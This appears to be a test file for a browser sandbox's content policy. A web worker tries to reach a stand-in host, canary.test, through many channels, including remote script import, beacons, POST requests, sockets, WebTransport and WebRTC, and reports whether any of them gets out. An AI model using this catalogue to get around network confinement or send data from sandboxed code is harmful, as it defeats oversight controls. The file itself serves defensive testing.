// id: own-network
// title: Every way to a server that a worker has, without any scrub
// why: the content policy alone must hold
// worker: exits

const out = () => postMessage('it got out');
const attempt = (name, f) => {
  try {
    return f();
  } catch {}
};
const event = (source) =>
  new Promise((done) => {
    if (!source) return done();
    source.onopen = source.onmessage = out;
    source.onerror = done;
  });

attempt('xhr', () => {
  const request = new XMLHttpRequest();
  request.open('GET', 'http://canary.test/', false);
  request.send();
  out();
});
attempt('importScripts', () => (importScripts('http://canary.test/x.js'), out()));
attempt('beacon', () => navigator.sendBeacon('http://canary.test/', 'x') && out());
const sockets = [
  event(attempt('socket', () => new WebSocket('ws://canary.test/'))),
  event(attempt('source', () => new EventSource('http://canary.test/'))),
  event(attempt('worker', () => new Worker('http://canary.test/w.js'))),
];
const transport = attempt('transport', () => new WebTransport('https://canary.test/'));
attempt('rtc', () => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:canary.test' }] });
  peer.createDataChannel('x');
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
});
Promise.race([
  new Promise((done) => setTimeout(done, 1_200)),
  Promise.allSettled([
    fetch('http://canary.test/').then(out),
    fetch('http://canary.test/', { mode: 'no-cors', keepalive: true }).then(out),
    fetch(new Request('http://canary.test/', { method: 'POST', body: 'x' })).then(out),
    import('http://canary.test/x.js').then(out),
    attempt('image', () => fetch('http://canary.test/x.png').then(createImageBitmap).then(out)),
    transport && transport.ready.then(out),
    ...sockets,
  ]),
]).then(() => postMessage({ type: 'end', exitCode: 0, fault: null }));
